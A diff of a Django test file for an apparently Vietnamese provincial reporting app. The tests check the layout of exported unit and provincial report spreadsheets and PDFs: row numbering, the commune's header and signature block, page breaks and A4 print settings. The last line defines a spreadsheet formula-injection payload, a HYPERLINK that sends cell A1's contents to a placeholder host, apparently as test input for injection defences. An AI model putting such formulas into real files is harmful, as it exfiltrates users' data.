@@ -11,6 +11,8 @@ from kynangso.reports import api as reports
 from kynangso.reports.documents import date_line, figure_text
 from tests.reports.conftest import YEAR, fill_sections
 
+CAMPAIGNS, STEM = "Số chiến dịch truyền thông về kỹ năng số", "Tỷ lệ trường tổ chức hoạt động STEM/STEAM"
+
 pytestmark = pytest.mark.django_db
 VN = ZoneInfo("Asia/Ho_Chi_Minh")
 
@@ -47,9 +49,11 @@ def test_the_unit_report_spreadsheet_has_the_header_and_the_figures(approved_rep
     assert "Độc lập - Tự do - Hạnh phúc" in flat
     assert "Số: 15/BC-UBND" in flat
     assert "An Bình, ngày 05 tháng 12 năm 2026" in flat
-    by_code = {row[0]: row for row in cells if row[0] in ("chien-dich", "truong-stem")}
-    assert by_code["chien-dich"][3:6] == (6, 8, 2)
-    assert by_code["truong-stem"][3:6] == (40, 50, 10)
+    table = [row for row in cells if isinstance(row[0], int)]
+    assert [row[0] for row in table] == [1, 2]  # «STT», not internal codes
+    by_name = {row[1]: row for row in table}
+    assert by_name[CAMPAIGNS][3:6] == (6, 8, 2)
+    assert by_name[STEM][3:6] == (40, 50, 10)
     assert "Nơi nhận:" in flat and "- UBND tỉnh;" in flat
     assert "TRẦN VĂN BÌNH" not in flat and "Trần Văn Bình" in flat
 
@@ -65,6 +69,28 @@ def test_the_unit_report_pdf_reads_as_an_administrative_document_with_its_figure
     assert "40,0% 50,0% 10,0%" in text
 
 
+def test_a_communes_report_is_issued_and_signed_by_its_peoples_committee(approved_report):
+    """Issue 18: not «XÃ AN BÌNH» under the province, but «ỦY BAN NHÂN DÂN» / «XÃ AN BÌNH», signed on its behalf."""
+    lines = [line.strip() for line in pdf_text(reports.unit_report_pdf(approved_report)).splitlines()]
+    assert lines[:2] == ["ỦY BAN NHÂN DÂN", "XÃ AN BÌNH"]
+    assert "TỈNH THỬ NGHIỆM" not in lines
+    signature = lines.index("TM. ỦY BAN NHÂN DÂN")
+    assert lines[signature + 1:signature + 3] == ["KT. CHỦ TỊCH", "PHÓ CHỦ TỊCH"]
+
+
+@pytest.mark.parametrize("paragraphs", [4, 20, 36])  # lengths that once left «Nơi nhận» and the signature alone
+def test_the_signature_never_stands_alone_on_the_last_page(followed, province, commune_admin, paragraphs):
+    report = reports.start_report(unit=province.a, year=YEAR, actor=commune_admin)
+    fill_sections(report, commune_admin, proposals="\n".join(
+        f"Đoạn {number}: đơn vị đã triển khai nhiều hoạt động hỗ trợ người dân học kỹ năng số tại nhà văn hóa."
+        for number in range(paragraphs)))
+    report.refresh_from_db()
+    pages = PdfReader(io.BytesIO(reports.unit_report_pdf(report))).pages
+    last_page = pages[-1].extract_text().split()
+    assert len(pages) > 1 and last_page[:2] != ["Nơi", "nhận:"]
+    assert "Đoạn" in last_page  # the end of the text comes along with the signature
+
+
 def test_the_unit_report_pdf_embeds_the_trend_charts(approved_report):
     content = reports.unit_report_pdf(approved_report)
     text = pdf_text(content)
@@ -77,13 +103,13 @@ def test_the_consolidated_spreadsheet_sums_the_units_and_lists_who_reported(appr
                                                today=datetime.date(YEAR, 12, 20))
     book = load_workbook(io.BytesIO(reports.province_report_xlsx(consolidated)))
     summary = [row for row in book["Tổng hợp"].iter_rows(values_only=True)]
-    province_row = next(row for row in summary if row[0] == "chien-dich")
-    assert province_row[3:5] == (15, 20)
-    units = {row[0]: row[1:] for row in book["Theo đơn vị"].iter_rows(min_row=3, values_only=True)}
+    province_row = next(row for row in summary if row[1] == CAMPAIGNS)
+    assert province_row[0] == 1 and province_row[3:5] == (15, 20)
+    units = {row[1]: row[2:] for row in book["Theo đơn vị"].iter_rows(min_row=3, values_only=True)}
     assert units["Xã An Bình"][0] == 6
     assert units["Phường Bình Minh"][0] == 9
     assert units["Sở Khoa học và Công nghệ"][0] is None
-    status = {row[0]: row[1:] for row in book["Tình hình gửi báo cáo"].iter_rows(min_row=3, values_only=True)}
+    status = {row[1]: row[2:] for row in book["Tình hình gửi báo cáo"].iter_rows(min_row=3, values_only=True)}
     assert status["Xã An Bình"] == ("Đã duyệt", "05/12/2026", "Đúng hạn")
     assert status["Phường Bình Minh"] == ("Chưa lập", None, "Trễ hạn")
 
@@ -96,6 +122,40 @@ def test_the_consolidated_pdf_has_the_province_figures_and_the_late_units(approv
     assert "15 20 5" in text  # province: value, target, gap of the campaigns
     assert "Xã An Bình" in text and "Phường Bình Minh" in text
     assert "Trễ hạn" in text
+
+
+def test_every_sheet_prints_on_a4_fitted_to_width_with_its_header_row_repeated_and_frozen(approved_report, followed,
+                                                                                          province):
+    consolidated = reports.consolidated_report(province=province.root, year=YEAR, plan_id=followed.plan.pk,
+                                               today=datetime.date(YEAR, 12, 20))
+    books = [load_workbook(io.BytesIO(reports.unit_report_xlsx(approved_report))),
+             load_workbook(io.BytesIO(reports.province_report_xlsx(consolidated)))]
+    for sheet in (sheet for book in books for sheet in book.worksheets):
+        setup = sheet.page_setup
+        assert int(setup.paperSize) == int(sheet.PAPERSIZE_A4), sheet.title  # 9: A4
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage and setup.fitToWidth == 1 and setup.fitToHeight == 0
+        header_row = int(sheet.print_title_rows.split(":")[0].lstrip("$"))
+        assert sheet[f"A{header_row}"].value == "STT", sheet.title
+        assert sheet.freeze_panes == f"A{header_row + 1}", sheet.title
+
+
+def test_the_spreadsheet_has_the_pdfs_sections_in_the_pdfs_order(approved_report):
+    import re
+
+    numbered = re.compile(r"^(I|II|III|IV|V|VI)\. [A-ZĐỦỒẾỆỘƠƯẠ]")
+    sheet = load_workbook(io.BytesIO(reports.unit_report_xlsx(approved_report))).active
+    in_sheet = [cell.value for row in sheet.iter_rows() for cell in row
+                if isinstance(cell.value, str) and numbered.match(cell.value)]
+    in_pdf = [line.strip() for line in pdf_text(reports.unit_report_pdf(approved_report)).splitlines()
+              if numbered.match(line.strip())]
+    assert in_sheet == in_pdf
+    assert in_sheet[:2] == ["I. ĐÁNH GIÁ CHUNG", "II. KẾT QUẢ THỰC HIỆN CÁC CHỈ TIÊU"]
+
+
+def test_the_motto_is_underlined_in_the_spreadsheet(approved_report):
+    sheet = load_workbook(io.BytesIO(reports.unit_report_xlsx(approved_report))).active
+    motto = next(cell for row in sheet.iter_rows() for cell in row if cell.value == "Độc lập - Tự do - Hạnh phúc")
+    assert motto.font.underline == "single" and motto.font.bold
 
 
 MALICIOUS = '=HYPERLINK("http://x?d="&A1,"x")'
